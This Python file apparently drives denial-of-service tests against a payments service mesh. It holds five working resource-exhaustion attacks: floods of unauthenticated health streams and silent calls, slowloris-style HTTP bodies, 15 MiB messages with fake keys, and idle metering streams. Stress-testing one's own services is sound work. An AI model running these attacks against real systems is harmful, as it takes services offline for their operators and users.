"""Attacks on a mesh, by name, from a process of their own: they go on until its input ends."""

from __future__ import annotations

import asyncio
import contextlib
import sys
from collections.abc import Awaitable, Callable
from typing import Any
from urllib.parse import urlsplit

import grpc
from grpc_health.v1 import health_pb2, health_pb2_grpc
from payments.metering.v1 import metering_service_pb2_grpc

LIST = "/payments.access.v1.AccessService/ListApiKeys"
MIB = 1024**2


class Target:
    """What is attacked: the addresses of a mesh, and a key of a tenant of the attacker's own."""

    def __init__(self, grpc_address: str, url: str, key: str) -> None:
        self.url = url
        self.head = (("authorization", f"Bearer {key}"),)
        self._address = grpc_address

    def connections(self, number: int) -> list[Any]:
        """Return connections of their own."""
        options = [("grpc.use_local_subchannel_pool", 1)]
        return [grpc.aio.insecure_channel(self._address, options=options) for _ in range(number)]


async def again(number: int, make: Callable[[int], Any]) -> None:
    """Hold so many calls open; one that ends is made again a little later."""

    async def one(place: int) -> None:
        while True:
            with contextlib.suppress(grpc.aio.AioRpcError, OSError):
                await make(place)
            await asyncio.sleep(0.5)

    await asyncio.gather(*map(one, range(number)))


async def watches(target: Target) -> None:
    """Watch health on 1,024 streams without a key."""
    channels = target.connections(4)

    async def watch(place: int) -> None:
        stub: Any = health_pb2_grpc.HealthStub(channels[place % 4])
        async for _ in stub.Watch(health_pb2.HealthCheckRequest()):
            pass

    await again(1024, watch)


async def silent_calls(target: Target) -> None:
    """Begin 1,024 calls without a key, and send no message."""
    channels = target.connections(4)
    await again(1024, lambda place: channels[place % 4].stream_unary(LIST)())


async def slow_bodies(target: Target) -> None:
    """Announce 300 bodies over REST, and send none of them."""
    place = urlsplit(target.url)

    async def body(_: int) -> None:
        reader, writer = await asyncio.open_connection(place.hostname, place.port)
        head = "POST /v1/billing/charges HTTP/1.1\r\nHost: a\r\nContent-Length: 2\r\n\r\n"
        writer.write(head.encode())
        try:
            await reader.read()
        finally:
            writer.close()

    await again(300, body)


async def wrong_keys(target: Target) -> None:
    """Send 64 messages of 15 MiB at a time with keys that are none."""
    channels, message = target.connections(8), bytes(15 * MIB)

    async def send(place: int) -> None:
        head = (("authorization", f"Bearer tmk_wrong_{place}"),)
        await channels[place % 8].unary_unary(LIST)(message, metadata=head)

    await again(64, send)


async def idle_streams(target: Target) -> None:
    """Hold 500 streams of usage open as one tenant, and send nothing."""
    channels = target.connections(4)

    async def stream(place: int) -> None:
        stub: Any = metering_service_pb2_grpc.MeteringServiceStub(channels[place % 4])
        await stub.StreamEvents(metadata=target.head).read()

    await again(500, stream)


ATTACKS: dict[str, Callable[[Target], Awaitable[None]]] = {
    each.__name__: each for each in (watches, silent_calls, slow_bodies, wrong_keys, idle_streams)
}


async def main(name: str, target: Target) -> None:
    """Attack until the input of this process ends."""
    attack = asyncio.ensure_future(ATTACKS[name](target))
    await asyncio.to_thread(sys.stdin.read)
    attack.cancel()


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], Target(*sys.argv[2:5])))
